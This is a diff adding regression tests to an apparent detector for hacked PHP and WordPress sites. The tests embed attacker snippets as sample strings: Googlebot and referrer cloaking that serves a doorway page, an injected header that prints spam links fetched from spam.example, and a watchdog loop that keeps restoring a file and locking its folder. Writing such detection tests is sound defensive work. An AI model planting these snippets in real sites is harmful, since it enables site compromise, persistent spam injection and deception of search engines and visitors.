@@ -1499,4 +1499,45 @@ mod tests {
             assert!(whys("a.php", &src).is_empty(), "{own}");
         }
     }
+
+    #[test]
+    fn a_page_included_for_crawlers_and_search_visitors_is_cloaking() {
+        // Regression: fresh86's slot doorway includes `home.html` for Googlebot and for visitors
+        // from google.co.id, and the site's own `index_old.php` for everyone else.
+        let doorway = "<?php function bot() { foreach (['Googlebot', 'Google-InspectionTool'] as $a) {\n\
+            if (stripos($_SERVER['HTTP_USER_AGENT'], $a) !== false) return true; } return false; }\n\
+            function searcher() { return strpos($_SERVER['HTTP_REFERER'], 'google.co.id') !== false; }\n\
+            if (bot() || searcher()) { include __DIR__ . '/home.html'; } else { include('index_old.php'); exit; }";
+        assert!(whys("index.php", doorway).contains(&Why::SearchEngineCloaking), "{:?}", whys("index.php", doorway));
+        // A theme's header chosen by the browser, nothing for search visitors.
+        let header = "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') === false) { include 'parts/header.html'; } echo 'x'; exit;";
+        assert!(!whys("index.php", header).contains(&Why::SearchEngineCloaking));
+    }
+
+    #[test]
+    fn another_sites_text_printed_by_wordpress_entry_is_remote_content() {
+        // Regression: fresh86's `wp-blog-header.php` prints a link list fetched from another
+        // site before loading WordPress: on every page.
+        let header = "<?php\necho file_get_contents(\"https://spam.example/.tmb/b.txt\");\n\
+            if (!isset($wp_did_header)) { $wp_did_header = true; require_once __DIR__ . '/wp-load.php'; wp();\n\
+            require_once ABSPATH . WPINC . '/template-loader.php'; }";
+        assert_eq!(whys("wp-blog-header.php", header), [Why::PrintsRemoteContent]);
+        // WordPress's own file fetches nothing.
+        let own = "<?php if (!isset($wp_did_header)) { $wp_did_header = true; require_once __DIR__ . '/wp-load.php'; wp();\n\
+            require_once ABSPATH . WPINC . '/template-loader.php'; }";
+        assert!(whys("wp-blog-header.php", own).is_empty());
+    }
+
+    #[test]
+    fn a_watchdog_that_sleeps_between_rounds_rewrites_files_forever() {
+        // Regression: fresh86's watchdog, run from the command line, lifts no time limit: it
+        // sleeps five seconds between putting `index.php` back and making its folder read-only.
+        let dog = "<?php $dir = '/home/u/public_html/wp-includes/.tmb'; while (true) {\n\
+            if (!file_exists($dir . '/index.php')) { chmod($dir, 0777); copy('index.php', $dir . '/index.php'); chmod($dir, 0555); }\n\
+            sleep(5); }";
+        assert_eq!(whys("tes.php", dog), [Why::RewritesFilesForever]);
+        // A worker that sleeps between jobs and makes nothing read-only.
+        let worker = "<?php while (true) { $job = next_job(); file_put_contents('out/' . $job, 'x'); chmod('out/' . $job, 0644); sleep(5); }";
+        assert!(!whys("worker.php", worker).contains(&Why::RewritesFilesForever));
+    }
 }
